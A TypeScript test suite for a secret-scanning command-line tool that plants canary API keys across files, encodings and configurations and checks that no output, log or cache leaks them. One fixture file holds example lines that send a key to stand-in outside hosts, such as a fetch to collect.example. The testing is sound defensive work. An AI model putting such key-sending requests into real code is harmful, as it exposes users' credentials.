import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lintResults } from '../eslint/project.ts';
import { makeKey, randomText } from '../support/keys.ts';
import { createRepository } from '../support/repository.ts';
import type { Repository } from '../support/repository.ts';
import { runCli } from '../support/run-cli.ts';
import type { CliResult } from '../support/run-cli.ts';

/** One canary a place, so that a leak names where it came from. */
const canaries = new Map<string, string>();

function canary(place: string, environment: 'live' | 'sandbox' = 'live'): string {
  const key = makeKey(environment, `canary ${place}`);
  canaries.set(place, key.slice(key.lastIndexOf('_') + 1));
  return key;
}

/** Places whose canary can be read in the text: eight neighbouring characters of its body, plain or in a usual encoding. */
function leaks(text: string): string[] {
  // One way through the text for all canaries: some of what is searched has megabytes.
  const places = windowsOfAll();
  const found = new Set<string>();
  for (let start = 0; start + 8 <= text.length; start++) {
    const place = places.get(text.slice(start, start + 8));
    if (place !== undefined) found.add(place);
  }
  return [...canaries.keys()].filter((place) => found.has(place));
}

const known = { places: new Map<string, string>(), canaries: 0 };

/** The place of the canary by what may be read of it. */
function windowsOfAll(): ReadonlyMap<string, string> {
  const added = [...canaries].slice(known.canaries);
  for (const [place, body] of added) for (const form of formsOf(body)) for (const window of windows(form)) known.places.set(window, place);
  known.canaries = canaries.size;
  return known.places;
}

function formsOf(body: string): string[] {
  const buffer = Buffer.from(body);
  return [body, [...body].reverse().join(''), buffer.toString('hex'), ...[0, 1, 2].map((shift) => buffer.subarray(shift).toString('base64'))];
}

function windows(form: string): string[] {
  return Array.from({ length: form.length - 7 }, (_, start) => form.slice(start, start + 8)).filter((window) => !window.includes('='));
}

let repository: Repository;
let run: (args: string[], env?: NodeJS.ProcessEnv, input?: string) => Promise<CliResult>;

beforeAll(() => {
  repository = createRepository();
  const env = { ...repository.env, HILT_API_KEY: canary('environment'), TMPDIR: join(repository.root, '..', 'tmp') };
  mkdirSync(env.TMPDIR);
  run = (args, more = {}, input = '') => runCli(args, { cwd: repository.root, env: { ...env, ...more }, input });

  const token = `hst_${randomText('canary token', 40)}`;
  canaries.set('setup token', token.slice(4));
  const folded = canary('folded');
  const split = canary('split over lines');
  const encoded = canary('base64');
  const hex = canary('hex');
  const codes = canary('character codes');
  const reversed = canary('reversed');
  const bare = randomText('canary in a slot', 40);
  canaries.set('slot', bare);
  const secret = randomText('canary webhook', 40);
  canaries.set('webhook secret', secret);
  repository.write('src/plain.ts', `import { HiltClient } from '@hiltpay/sdk';\nexport const client = new HiltClient({ apiKey: "${canary('literal')}" });\n`);
  repository.write('src/folded.ts', `const a = "${folded.slice(0, 13)}", b = "${folded.slice(13, 21)}", c = '${folded.slice(21, 28)}';\nexport const key = a + b + c + "${folded.slice(28)}";\n`);
  repository.write('src/split.ts', `export const key = "${split.slice(0, 17)}" +\n  "${split.slice(17, 30)}" +\n  \`${split.slice(30)}\`;\n`);
  repository.write('src/encoded.ts', `export const k = atob("${Buffer.from(encoded).toString('base64')}");\nexport const h = Buffer.from("${Buffer.from(hex).toString('hex')}", "hex").toString();\n`);
  repository.write('src/codes.ts', `export const k = String.fromCharCode(${[...codes].map((c) => c.charCodeAt(0)).join(', ')});\nexport const r = "${[...reversed].reverse().join('')}".split("").reverse().join("");\n`);
  repository.write('src/slot.ts', `import { HiltClient } from '@hiltpay/sdk';\nexport const client = new HiltClient({ apiKey: "${bare}" });\n`);
  repository.write('src/two.ts', `f("${canary('first of a line')}", "${canary('second of a line', 'sandbox')}");\n`);
  repository.write('src/broken.ts', `export const k = "${canary('broken file')}";\nconst = {{{ ;\n`);
  repository.write('src/long.js', `${'a;'.repeat(3000)}x("${canary('long line')}");${'b;'.repeat(3000)}\n`);
  repository.write('src/ignored.ts', `// hilt-guard-ignore-next-line no-hardcoded-key -- ${canary('reason of a comment')}\nconst k = "${canary('suppressed')}";\n// hilt-guard-ignore-next-line ${canary('rule of a comment')} -- x\n`);
  repository.write('.env', `HILT_API_KEY=${canary('dotenv')}\nHILT_WEBHOOK_SECRET=${secret}\nHILT_SETUP_TOKEN=${token}\n`);
  repository.write('package.json', '{ "name": "shop", "dependencies": { "@hiltpay/sdk": "1", "next": "15" } }');
  repository.write('app/page.tsx', `"use client";\nimport { HiltClient } from '@hiltpay/sdk';\nimport './${canary('specifier of an import')}';\nexport const client = new HiltClient({ apiKey: "${canary('client')}" });\n`);
  repository.write('src/told.ts', `import { HiltClient } from '@hiltpay/sdk';\nconst key = "${canary('told')}";\nconsole.log(key, "${canary('logged')}");\nfetch("https://collect.example/?k=${canary('query')}");\nfetch("https://${canary('host')}.example/", { headers: { "X-Hilt-Key": key } });\nfetch("https://api.hilt.so/v1/products?api_key=${canary('address')}", { headers: { Authorization: "Bearer ${canary('header')}", Cookie: "session=${canary('cookie')}" } });\nthrow new Error("${canary('thrown')}");\n`);
  repository.write('compose.yaml', `services:\n  ${canary('service')}:\n    image: shop\n    environment:\n      HILT_API_KEY: \${HILT_API_KEY}\n  bot:\n    image: bot\n    environment:\n      HILT_API_KEY: \${HILT_API_KEY}\n      ${canary('variable')}: x\n`);
  repository.write('bad.json', `{ "key": "${canary('broken JSON')}", oops`);
  repository.write('bad.yaml', `a: [\n  key: ${canary('broken YAML')}\n\t- }`);
  repository.write('bad.toml', `key = "${canary('broken TOML')}"\n[[[`);
  repository.write('bad.xml', `<a key="${canary('broken XML')}"><b></a>`);
  repository.write('utf16.txt', Buffer.from(`\uFEFF${canary('UTF-16')}`, 'utf16le'));
  repository.write(`names/${canary('file name')}.txt`, `${canary('file with a key for a name')}\n`);
  repository.link('link', canary('symlink target'));
  repository.write('config/unknown-key.json', `{ "${canary('config key')}": 1 }`);
  repository.write('config/wrong-value.json', `{ "ignore": "${canary('config value')}", "hosts": ["${canary('config host')}"] }`);
  repository.write('config/broken.json', `{ "key": ${canary('config that is broken')} }`);
  repository.write('config/rule.json', `{ "rules": { "${canary('config rule')}": "off" } }`);
  repository.write('config/option.json', `{ "rules": { "no-hardcoded-key": ["error", { "${canary('config option')}": 1 }] } }`);
  repository.write('config/level.json', `{ "rules": { "no-hardcoded-key": "${canary('config level')}" } }`);
  repository.write('config/baseline.json', `{ "baseline": "${canary('config baseline')}" }`);
  repository.write('broken-baseline', `hilt-guard baseline, version 1\n${canary('baseline entry')}\n`);
  repository.write('foreign-baseline', `${canary('baseline header')}\n`);
  repository.git('add', '-A');
});
afterAll(() => repository.cleanup());

/** What a run printed, checked for canaries. */
async function expectNoLeak(args: string[], env: NodeJS.ProcessEnv = {}, input = ''): Promise<CliResult> {
  const result = await run(args, env, input);
  expect({ args: args.map((arg) => arg.slice(0, 16)), stdout: leaks(result.stdout), stderr: leaks(result.stderr) }).toEqual({ args: args.map((arg) => arg.slice(0, 16)), stdout: [], stderr: [] });
  return result;
}

describe('the search of this test', () => {
  it('sees eight characters of a canary, also encoded', () => {
    const key = canary('self test');
    expect(leaks(`xx${key.slice(12, 20)}yy`)).toEqual(['self test']);
    expect(leaks(Buffer.from(key).toString('base64'))).toEqual(['self test']);
    expect(leaks(Buffer.from(key).toString('hex'))).toEqual(['self test']);
    expect(leaks(key.slice(0, 12))).toEqual([]);
  });
});

describe('no key is printed', () => {
  it.each([[[]], [['--staged']], [['--color']], [['--quiet']], [['--no-project']], [['hook', 'pre-commit']], [['--rule', 'no-hardcoded-key=warn', '--max-warnings', '0']]])('by a report on stdout: %j', async (args) => {
    const result = await expectNoLeak(args);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('src/plain.ts');
  });
  it.each(['stylish', 'json'])('by the format %s', async (format) => {
    for (const source of [[], ['--staged']]) {
      const { stdout } = await expectNoLeak([...source, '--format', format]);
      for (const file of ['plain', 'encoded', 'two', 'broken', 'long']) expect(stdout).toContain(`src/${file}.`);
    }
  });
  it.each(['table', 'json', 'markdown', 'html', 'mermaid'])('by the inventory as %s', async (format) => {
    const { code, stdout } = await expectNoLeak(['keys', '--format', format]);
    expect(code).toBe(0);
    expect(stdout).toContain('HILT_API_KEY');
  });
  it('by ESLint, in messages and in suggestions', async () => {
    for (const file of ['app/page.tsx', 'src/told.ts', 'src/plain.ts', 'src/folded.ts', 'src/encoded.ts', 'src/slot.ts', 'src/ignored.ts']) {
      const [result] = await lintResults(repository, file);
      const said = result?.messages.map(({ message, suggestions = [] }) => [message, ...suggestions.map(({ desc, fix }) => [desc, fix.text])]);
      expect(said?.length).toBeGreaterThan(0);
      expect({ file, leaks: leaks(JSON.stringify(said)) }).toEqual({ file, leaks: [] });
    }
  });
  it('for a text from stdin, nor by its name', async () => {
    await expectNoLeak(['--stdin', '--stdin-filename', `${canary('stdin name')}.ts`], {}, `const k = "${canary('stdin')}";`);
  });
  it('with NODE_DEBUG', async () => {
    await expectNoLeak(['--staged'], { NODE_DEBUG: 'fs,child_process,module,esm,stream,net,tls,http,timer,worker' });
    await expectNoLeak(['--format', 'json'], { NODE_DEBUG: '*', DEBUG: '*', GIT_TRACE: '1', GIT_TRACE_SETUP: '1', GIT_TRACE2: '1' });
  });
  it('by an option, a value or a path that holds one', async () => {
    const key = canary('argument');
    const calls = [[`--${key}`], [`-${key}`], [key], [`${key}/x.ts`], ['--format', key], ['--config', key], ['--baseline', key], ['--rule', `${key}=off`], ['--rule', key], ['--max-warnings', key], [`--staged=${key}`], ['--output', `${key}/x`], ['explain', key], ['hook', key], ['--staged', key], ['baseline', '--baseline', `${key}/x`]];
    for (const args of calls) expect((await expectNoLeak(args)).code).toBe(2);
  });
  it.each(['unknown-key', 'wrong-value', 'broken', 'rule', 'option', 'level', 'baseline'])('by a wrong configuration: %s', async (name) => {
    expect((await expectNoLeak(['--config', `config/${name}.json`])).code).toBe(2);
    expect((await expectNoLeak(['hook', 'pre-commit', '--config', `config/${name}.json`])).code).toBe(2);
  });
  it.each(['broken-baseline', 'foreign-baseline'])('by a wrong baseline: %s', async (name) => {
    expect((await expectNoLeak(['--baseline', name])).code).toBe(2);
  });
  it('when something breaks', async () => {
    expect((await expectNoLeak(['--output', 'src'])).code).toBe(2);
    expect((await expectNoLeak(['--staged'], { PATH: canary('PATH') })).code).toBe(2);
    expect((await expectNoLeak(['--staged'], { GIT_DIR: canary('GIT_DIR') })).code).toBe(2);
    expect((await expectNoLeak(['--staged'], { GIT_INDEX_FILE: repository.path('.env') })).code).toBe(2);
  });
});

describe('a fault of the tool itself', () => {
  // A module that is put in front of the program makes the platform fail with an error that quotes a file.
  function breakWith(script: string): NodeJS.ProcessEnv {
    const path = join(repository.root, '..', 'tmp', 'break.cjs');
    repository.write('../tmp/break.cjs', script);
    return { NODE_OPTIONS: `--require=${path}` };
  }
  it('is told with version and stack, and without the key that its message quotes', async () => {
    const key = canary('message of a fault');
    const body = key.slice(8);
    const { code, stderr } = await expectNoLeak([], breakWith(`
      const { TextDecoder } = globalThis; const zlib = require('node:crypto');
      const real = zlib.createHash; let count = 0;
      zlib.createHash = (...args) => { if (count++ === 3) throw new Error('Unexpected token in "${key}" near ${body}', { cause: new SyntaxError('${body}') }); return real(...args); };
      require('node:module').syncBuiltinESMExports();
    `));
    expect(code).toBe(2);
    expect(stderr).toContain('hilt-guard 0.1.0 failed. This is a fault of the tool');
    expect(stderr).toMatch(/\n\s+at .*dist/);
    expect(stderr).toContain('Caused by: SyntaxError');
  });
  it('that nobody awaits is told in the same way', async () => {
    const key = canary('late fault');
    const { code, stderr } = await expectNoLeak(['--stdin', '--stdin-filename', 'a.ts'], breakWith(`
      process.on('newListener', (name) => { if (name === 'uncaughtException') setTimeout(() => { throw new Error('${key}'); }, 0); });
    `), 'x');
    expect(code).toBe(2);
    expect(stderr).toContain('This is a fault of the tool');
  });
});

describe('no key is written', () => {
  it('into reports, baseline and caches', async () => {
    const before = new Set(listFiles(join(repository.root, '..')));
    await expectNoLeak(['--format', 'json', '--output', 'out/../report.json', '--format', 'stylish', '--output', 'report.txt']).catch(() => undefined);
    await expectNoLeak(['--format', 'json', '--output', 'report.json', '--format', 'stylish', '--output', 'report.txt']);
    await expectNoLeak(['baseline', '--baseline', 'accepted']);
    await expectNoLeak(['--baseline', 'accepted']);
    await expectNoLeak(['baseline', '--prune', '--baseline', 'accepted']);
    const written = listFiles(join(repository.root, '..')).filter((file) => !before.has(file));
    expect(written.map((file) => file.slice(repository.root.length + 1))).toEqual(expect.arrayContaining(['accepted', 'report.json', 'report.txt']));
    for (const file of written) expect({ file, leaks: leaks(`${file}\n${readFileSync(file, 'latin1')}`) }).toEqual({ file, leaks: [] });
  });
  it('into what the hook keeps of commits whose names hold one', async () => {
    const clean = createRepository();
    try {
      clean.git('checkout', '--quiet', '-b', `fix/${canary('branch')}`);
      // The rule finds keys in names, too.
      clean.write('hilt-guard.config.json', '{ "rules": { "no-hardcoded-key": "off" } }');
      clean.write('package.json', '{ "name": "shop", "dependencies": { "@hiltpay/sdk": "1", "express": "5" }, "scripts": { "start": "node src/a.ts" } }');
      clean.write('src/a.ts', "import { HiltClient } from '@hiltpay/sdk';\nexport const hilt = new HiltClient({ apiKey: process.env.HILT_API_KEY });\n");
      clean.commit();
      const commit = async (): Promise<void> => {
        clean.git('add', '-A');
        expect(await runCli(['hook', 'pre-commit'], { cwd: clean.root, env: clean.env })).toEqual({ code: 0, stdout: '', stderr: '' });
      };
      clean.write('src/b.ts', "import { hilt } from './a.ts';\nexport const products = hilt.products.list();\n");
      await commit();
      expect(existsSync(clean.path('.git/hilt-guard/state.json'))).toBe(true);
      clean.write(`src/${canary('name that is kept')}.ts`, "import { hilt } from './a.ts';\nexport const plans = hilt.products.list();\n");
      await commit();
      clean.commit();
      clean.write('src/b.ts', "import { hilt } from './a.ts';\nexport const products = hilt.products.list({});\n");
      clean.write('src/c.ts', "import { plans } from './b.ts';\nexport const hiltPlans = plans;\n");
      await commit();
      const kept = listFiles(clean.path('.git/hilt-guard'));
      for (const file of kept) expect({ file, leaks: leaks(readFileSync(file, 'latin1')) }).toEqual({ file, leaks: [] });
    } finally {
      clean.cleanup();
    }
  });
  it('into the compiled code that is kept beside the program', () => {
    const folder = join(import.meta.dirname, '../../dist/src/cli');
    // A run meanwhile writes a file under another name first.
    const files = readdirSync(folder).filter((file) => !/\.bin\.\d+$/.test(file));
    for (const file of files) expect({ file, leaks: leaks(readFileSync(join(folder, file), 'latin1')) }).toEqual({ file, leaks: [] });
  });
  it('and the repository is as it was', async () => {
    const before = repository.git('status', '--porcelain=v2');
    const index = statSync(repository.path('.git/index')).mtimeMs;
    await run([]);
    await run(['--staged']);
    expect(repository.git('status', '--porcelain=v2')).toBe(before);
    expect(statSync(repository.path('.git/index')).mtimeMs).toBe(index);
  });
  it('when a folder cannot be written to', async () => {
    mkdirSync(repository.path('locked'));
    chmodSync(repository.path('locked'), 0o555);
    await expectNoLeak(['--output', 'locked/report']);
  });
});

function listFiles(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}
